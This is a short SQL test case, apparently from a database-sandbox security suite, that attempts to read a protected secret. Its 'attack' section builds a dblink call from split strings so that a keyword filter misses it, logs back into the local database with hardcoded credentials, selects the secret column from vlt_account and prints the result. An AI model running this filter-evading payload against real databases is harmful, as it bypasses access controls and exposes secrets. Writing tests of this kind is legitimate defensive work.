-- Reads by another connection inside a DO block.
-- wants: read
-- setup:
CALL open_ways_out();
-- attack:
DO $$ DECLARE x text; BEGIN EXECUTE format('SELECT string_agg(s, '','') FROM dbl' || 'ink(%L, ''SELECT secret FROM vlt_account'') t (s text)',
  format('host=127.0.0.1 port=%s dbname=%s user=porter password=porter', current_setting('port'), current_database())) INTO x;
  RAISE NOTICE '%', x; END $$;
